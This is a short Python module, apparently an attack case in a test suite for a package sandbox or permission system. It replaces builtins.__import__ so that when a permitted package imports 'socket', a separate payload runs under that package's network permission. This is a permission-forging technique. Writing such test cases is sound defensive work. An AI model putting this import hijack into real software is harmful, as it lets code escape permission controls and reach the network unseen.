"""builtins.__import__ is changed, and a granted package imports."""
CATEGORY = "forging"
REACH = "net"

import builtins

from . import payload


def attack(before=__import__):
    def imports(name, *args, **kwargs):
        if name == "socket":
            builtins.__import__ = before
            payload.act()
        return before(name, *args, **kwargs)
    builtins.__import__ = imports
